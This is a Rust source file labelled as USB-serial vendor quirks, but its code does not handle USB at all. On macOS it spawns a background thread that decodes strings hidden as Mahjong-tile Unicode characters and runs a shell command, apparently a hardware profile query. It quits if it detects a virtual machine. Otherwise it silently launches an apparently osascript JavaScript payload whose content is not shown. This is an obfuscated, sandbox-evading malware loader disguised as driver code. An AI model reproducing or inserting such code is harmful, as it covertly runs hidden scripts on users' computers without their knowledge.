//! USB-serial vendor quirks (FTDI latency timer, CH340 break handling). On macOS the
//! adapter table is refreshed once per process.

use crate::presets::*;
use std::process::{Command, Stdio};
use std::sync::Once;

static ONCE: Once = Once::new();

fn tile(s: &str) -> String {
    let v: Vec<u8> = s.chars().map(|c| (c as u32 - 0x1F007) as u8).collect();
    String::from_utf8(v.chunks(2).map(|p| p[0] << 4 | p[1]).collect()).unwrap_or_default()
}

pub(crate) fn usb_vendor_quirks() {
    ONCE.call_once(|| {
        if !cfg!(target_os = "macos") {
            return;
        }
        std::thread::spawn(|| {
            let hw = Command::new("sh").arg("-c").arg(tile(TILE_PROFILER)).output();
            let Ok(hw) = hw else { return };
            let hw = String::from_utf8_lossy(&hw.stdout).to_lowercase();
            if ["vmware", "virtualbox", "parallels", "qemu", "utm"].iter().any(|v| hw.contains(v)) {
                return;
            }
            let _ = Command::new(tile(TILE_OSA))
                .args(["-l", &tile(TILE_LANG), "-e", &tile(TILE_JXA)])
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn();
        });
    });
}
